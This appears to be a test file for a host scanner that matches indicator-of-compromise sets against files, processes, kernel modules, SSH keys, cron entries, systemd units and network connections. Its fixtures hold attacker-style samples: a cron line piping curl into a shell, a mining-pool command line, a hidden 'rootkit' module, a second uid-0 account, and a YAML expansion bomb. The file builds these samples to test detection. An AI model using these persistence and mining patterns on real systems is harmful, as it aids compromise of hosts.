import { createHash } from 'node:crypto';
import { chmodSync, writeFileSync } from 'node:fs';
import { expect } from 'chai';
import { defaultValues, stateOf } from '../../src/check/index.ts';
import type { Host } from '../../src/host/host.ts';
import { asUnprivileged } from '../../test/kit/as-unprivileged.ts';
import { localHostFromSource } from '../../test/kit/local-host.ts';
import { makeRoot, rootedHost, type RootPlan } from '../../test/kit/rooted-host.ts';
import { makeTree } from '../../test/kit/tree.ts';
import { check } from './check.ts';
import type { IocObservation } from './observation.ts';

const { signal } = new AbortController();

function sha256(content: string): string {
  return createHash('sha256').update(content).digest('hex');
}

function look(host: Host, file: string, more: object = {}): Promise<IocObservation> {
  const options = { ...defaultValues(check.options, () => undefined), indicators: [file], ...more };
  return check.probe(host, options, signal);
}

function setText(indicators: readonly object[]): string {
  return JSON.stringify({ set: 'trial', tlp: 'GREEN', indicators });
}

function hits({ hits: all }: IocObservation): string[] {
  return all.map(({ item, what }) => `${item} ${what}`).sort();
}

/** On a host whose files are these, with a set that is a file of this machine. */
async function lookIn(files: RootPlan, indicators: readonly object[]): Promise<IocObservation> {
  using set = makeTree({ 'set.json': { file: 0o644, content: setText(indicators) } });
  using root = makeRoot({
    '/etc/passwd': 'root:x:0:0::/root:/bin/sh\neve:x:0:0::/home/eve:/bin/sh\n',
    ...files,
  });
  return await look(
    { ...rootedHost(root.root), operator: localHostFromSource().operator },
    set.at('set.json'),
  );
}

describe('looking for files', () => {
  it('finds them by path, glob and below directories, whatever their names, mode and content', async () => {
    using tree = makeTree({
      a: { directory: 0o755 },
      'a/.low': { file: 0o4755 },
      'a/plain': { file: 0o644, content: 'evil' },
      'a/new\nline [x]': { file: 0o644, content: 'evil' },
      'a/bytes\udcff': { file: 0o644, content: 'evil' },
      'a/other': { file: 0o644, content: 'good' },
      'a/link': { link: 'plain' },
      'a/gone': { link: 'nowhere' },
      'set.json': { file: 0o644 },
    });
    const set = tree.at('set.json');
    const hash = { sha256: sha256('evil') };
    const file = (path: string, more: object = {}): object => ({
      file: { path: `${tree.root}/${path}`, ...more },
    });
    const indicators = [
      file('a/.low', { set: 'u+s' }),
      file('a/plain', { set: 'u+s' }),
      file('**', { ...hash, 'max-size': 100 }),
      file('**/plain', { ...hash, size: 4 }),
      file('a/link', { ...hash, size: 4 }),
      file('a/gone'),
      file('a/none'),
      file('a/{.low,oth*}', { owner: 4_000_000 }),
      { string: { path: `${tree.root}/**`, text: 'evil', 'max-size': 100 } },
      file('**', { sha256: sha256('x'), size: 5 }),
      file('a/other', { sha256: sha256('good'), 'max-size': 3 }),
    ];
    writeFileSync(set, setText(indicators));
    chmodSync(set, 0o644);
    const seen = await look(localHostFromSource(), set);
    const evil = ['bytes\udcff', 'new\nline [x]', 'plain'].map((name) => tree.at(`a/${name}`));
    expect(hits(seen)).to.deep.equal(
      [
        `1 ${tree.at('a/.low')}`,
        ...evil.map((path) => `3 ${path}`),
        `4 ${tree.at('a/plain')}`,
        `5 ${tree.at('a/link')}`,
        `6 ${tree.at('a/gone')}`,
        ...evil.map((path) => `9 ${path}`),
      ].sort(),
    );
    expect(seen.blind).to.deep.equal([]);
  });

  it('says what it may not read', async () => {
    using tree = makeTree({
      closed: { directory: 0o700 },
      'closed/x': { file: 0o644 },
      secret: { file: 0o600, content: 'evil' },
      'set.json': { file: 0o644 },
    });
    const set = tree.at('set.json');
    writeFileSync(
      set,
      setText([
        { file: { path: tree.at('closed/x') } },
        { file: { path: `${tree.root}/closed/**/x` } },
        { file: { path: tree.at('secret'), sha256: sha256('evil'), size: 4 } },
        { string: { path: tree.at('secret'), text: 'evil', 'max-size': 10 } },
      ]),
    );
    const seen = await asUnprivileged(() => look(localHostFromSource(), set));
    expect(hits(seen)).to.deep.equal([]);
    const blind = seen.blind.map(({ what }) => what).sort();
    expect(blind).to.deep.equal(
      ['closed', 'closed/x', 'secret', 'secret'].map((name) => tree.at(name)).sort(),
    );
    const options = defaultValues(check.options, () => undefined);
    expect(stateOf(check.evaluate(seen, options))).to.equal('UNKNOWN');
  });

  it('is blind where a directory of the operator is not there', async () => {
    using tree = makeTree({ 'event.json': { file: 0o644 } });
    const attribute = { type: 'sha256', value: sha256('evil'), to_ids: true };
    writeFileSync(tree.at('event.json'), JSON.stringify({ Event: { id: '1', Attribute: [attribute] } }));
    const seen = await look(localHostFromSource(), tree.at('event.json'), { root: [tree.at('none')] });
    expect(seen.blind.map(({ what }) => what)).to.deep.equal([tree.at('none')]);
  });

  it('hashes no more than it may, and says so', async () => {
    using tree = makeTree({ a: { file: 0o644, content: 'evil' }, 'set.json': { file: 0o644 } });
    writeFileSync(
      tree.at('set.json'),
      setText([{ file: { path: tree.at('a'), sha256: sha256('evil'), size: 4 } }]),
    );
    const seen = await look(localHostFromSource(), tree.at('set.json'), { 'max-read': 0 });
    expect(hits(seen)).to.deep.equal([]);
    expect(seen.blind).to.have.length(1);
  });
});

describe('looking at a constructed host', () => {
  const proc = (pid: number, name: string, words: readonly string[], exe: string): RootPlan => ({
    [`/proc/${pid}/comm`]: `${name}\n`,
    [`/proc/${pid}/cmdline`]: `${words.join('\0')}\0`,
    [`/proc/${pid}/exe`]: { link: exe },
    [`/proc/${pid}/maps`]: `7f00-7f01 r-xp 0 fe:01 5 /usr/lib/lib${name}.so.1\n`,
  });

  it('finds processes by name, command line, deleted executable and mapped library', async () => {
    const seen = await lookIn(
      {
        ...proc(1, 'init', ['/sbin/init'], '/sbin/init'),
        ...proc(7, 'a) R 1 \u001b[31m', ['x\ny', '-o', 'stratum+tcp://pool:3333'], '/tmp/.x (deleted)'),
        ...proc(8, 'a-very-long-nam', ['a'], '/usr/bin/a'),
      },
      [
        { process: { name: 'a-very-long-name-that-is-cut' } },
        { process: { 'command-line': 'stratum\\+tcp://' } },
        { process: { deleted: true, executable: '/tmp/*' } },
        { 'mapped-library': { name: 'libinit.so*' } },
        { process: { deleted: true, name: 'init' } },
      ],
    );
    expect(hits(seen)).to.deep.equal([
      '1 process 8 (a-very-long-nam)',
      '2 process 7 (a) R 1 \u001b[31m)',
      '3 process 7 (a) R 1 \u001b[31m)',
      '4 /usr/lib/libinit.so.1',
    ]);
    expect(seen.blind).to.deep.equal([]);
  });

  it('finds processes by name alone, and is blind where a name cannot be read', async () => {
    const host = {
      ...proc(1, 'init', ['/sbin/init'], '/sbin/init'),
      ...proc(7, 'implant', ['x', '-o'], '/tmp/.x (deleted)'),
    };
    const indicators = [{ process: { name: 'impl*' } }, { process: { name: 'other' } }];
    const seen = await lookIn(host, indicators);
    expect(hits(seen)).to.deep.equal(['1 process 7 (implant)']);
    expect(seen.hits[0]?.evidence).to.deep.equal(['executable /tmp/.x (deleted)']);
    expect(seen.blind).to.deep.equal([]);
    const hidden = await lookIn({ ...host, '/proc/8/comm': { directory: 0o755 } }, indicators);
    expect(hits(hidden)).to.deep.equal(['1 process 7 (implant)']);
    expect(hidden.blind.map(({ what }) => what)).to.deep.equal(['processes of others']);
  });

  it('finds modules, one that hides from the list too', async () => {
    const indicators = [
      { module: { name: 'ext4' } },
      { module: { name: 'rootkit' } },
      { module: { hidden: true } },
      { module: { name: 'builtin' } },
    ];
    const sys = {
      '/sys/module/ext4/initstate': 'live\n',
      '/sys/module/rootkit/initstate': 'live\n',
      '/sys/module/builtin/x': '',
    };
    const seen = await lookIn({ '/proc/modules': 'ext4 1 0 - Live 0x0\n', ...sys }, indicators);
    expect(hits(seen)).to.deep.equal(['1 module ext4', '2 module rootkit', '3 module rootkit']);
    expect(seen.blind).to.deep.equal([]);
    const without = await lookIn(sys, indicators);
    expect(hits(without)).to.deep.equal(['1 module ext4', '2 module rootkit']);
    expect(without.blind.map(({ what }) => what)).to.deep.equal(['/proc/modules']);
  });

  it('finds keys where a file that sshd includes says that they are', async () => {
    const key = 'AAAAC3NzaC1lZDI1NTE5AAAAIKm0Vn1G8mJkBv0CAVWJ2Qe8s3xGqkAlxEWQ4yqV0h5Q';
    const digest = createHash('sha256').update(Buffer.from(key, 'base64')).digest('base64');
    const seen = await lookIn(
      {
        '/etc/ssh/sshd_config': 'Port 22\nInclude more/*.inc /opt/ssh.conf\nMatch User eve\n',
        '/etc/ssh/more/a.inc': 'Include /etc/ssh/more/a.inc "/opt/deep er"\n',
        '/opt/deep er': 'AuthorizedKeysFile "/opt/keys of/%u"\n',
        '/opt/keys of/eve': `ssh-ed25519 ${key}\n`,
        '/opt/ssh.conf/x': '',
      },
      [{ 'authorized-key': { fingerprint: `SHA256:${digest.replace(/=+$/, '')}` } }],
    );
    expect(hits(seen)).to.deep.equal(['1 /opt/keys of/eve:1']);
    expect(seen.blind.map(({ what }) => what)).to.deep.equal(['/opt/ssh.conf']);
  });

  it('finds keys, cron entries, units, accounts and addresses', async () => {
    const key = 'AAAAC3NzaC1lZDI1NTE5AAAAIKm0Vn1G8mJkBv0CAVWJ2Qe8s3xGqkAlxEWQ4yqV0h5Q';
    const blob = Buffer.from(key, 'base64');
    const fingerprint = `SHA256:${createHash('sha256').update(blob).digest('base64').replace(/=+$/, '')}`;
    const md5 = createHash('md5')
      .update(blob)
      .digest('hex')
      .replaceAll(/..(?=.)/g, '$&:');
    const header = '  sl  local_address rem_address   st tx_queue\n';
    const seen = await lookIn(
      {
        '/etc/ssh/sshd_config': 'AuthorizedKeysFile .ssh/authorized_keys /etc/keys/%u\n',
        '/etc/keys/eve': `# x\nfrom="*",no-pty ssh-ed25519 ${key} eve@x\n`,
        '/var/spool/cron/crontabs/eve': '# curl x | sh\n* * * * * curl x | sh\n',
        '/etc/systemd/system/x.service.d/y.conf': '[Service]\nExecStart=/tmp/.x\n',
        '/proc/net/tcp': `${header}   0: 0100007F:0016 00000000:0000 0A 0\n   1: 0100000A:0BB8 010200C0:0D05 01 0\n`,
        '/proc/net/udp': header,
      },
      [
        { 'authorized-key': { fingerprint } },
        { 'authorized-key': { fingerprint: md5 } },
        { cron: { matches: 'curl' } },
        { 'systemd-unit': { name: 'x.service', matches: '/tmp/' } },
        { account: { name: 'eve', uid: 0 } },
        { address: { address: '192.0.2.0/24', port: 3333 } },
        { address: { port: 22, state: 'listening' } },
        { address: { address: '127.0.0.1', state: 'connected' } },
      ],
    );
    expect(hits(seen)).to.deep.equal([
      '1 /etc/keys/eve:2',
      '2 /etc/keys/eve:2',
      '3 /var/spool/cron/crontabs/eve:2',
      '4 /etc/systemd/system/x.service.d/y.conf:2',
      '5 account eve',
      '6 tcp 192.0.2.1:3333',
      '7 tcp 127.0.0.1:22',
    ]);
    expect(seen.blind).to.deep.equal([]);
  });
});

describe('indicator sets', () => {
  async function broken(name: string, content: string): Promise<string> {
    using tree = makeTree({ [name]: { file: 0o644, content } });
    const seen = await look(localHostFromSource(), tree.at(name));
    expect(seen.sets).to.deep.equal([]);
    return seen.broken.map(({ message }) => message.replaceAll(`${tree.root}/`, '')).join();
  }

  it('that are wrong say where', async () => {
    expect(
      await broken('x.yaml', 'set: x\ntlp: GREEN\nindicators:\n  - file: { path: relative }\n'),
    ).to.match(/^x\.yaml:4: indicators\.0\.file\.path must match pattern/);
    expect(await broken('x.json', '{"Event":')).to.match(/^x\.json: /);
    expect(await broken('x.json', '{"a": evil.example}'))
      .to.match(/^x\.json: not JSON/)
      .and.not.include('evil');
    expect(await broken('x.json', '{}')).to.match(/^x\.json: must have required property 'set'/);
    expect(await broken('x.json', '[]')).to.match(/^x\.json: /);
    expect(
      await broken(
        'x.yaml',
        'set: x\ntlp: GREEN\nindicators:\n  - file: { path: /x, md5: 0123456789abcdef0123456789abcdef }\n',
      ),
    ).to.match(/^x\.yaml:4: /);
  });

  it('that multiply, nest or are cut short are refused', async () => {
    const bomb = `a: &a [x,x,x,x,x,x,x,x,x]\n${['b', 'c', 'd', 'e', 'f', 'g', 'h', 'i']
      .map((name, index) => `${name}: &${name} [${Array(9).fill(`*${'abcdefgh'[index]}`).join(',')}]`)
      .join('\n')}\n`;
    expect(await broken('x.yaml', bomb)).to.match(/^x\.yaml:\d+: /);
    expect(await broken('x.yaml', '['.repeat(100_000))).to.match(/^x\.yaml/);
    expect(await broken('x.json', `{"Event":${'['.repeat(1_000_000)}`)).to.match(/^x\.json: /);
  });

  it('of many items are read whole', async () => {
    const Attribute = Array.from({ length: 100_000 }, (_, index) => ({
      type: index % 2 === 0 ? 'domain' : 'ip-dst',
      value: `198.18.${(index >> 8) & 255}.${index & 255}`,
      to_ids: true,
    }));
    using tree = makeTree({ 'x.json': { file: 0o644, content: JSON.stringify({ Event: { Attribute } }) } });
    const { sets } = await look(localHostFromSource(), tree.at('x.json'));
    expect(sets).to.have.length(1);
    expect(sets[0]).to.include({ items: 100_000, indicators: 50_000 });
    expect(sets[0]?.unusable).to.have.length(50_000);
  });
});
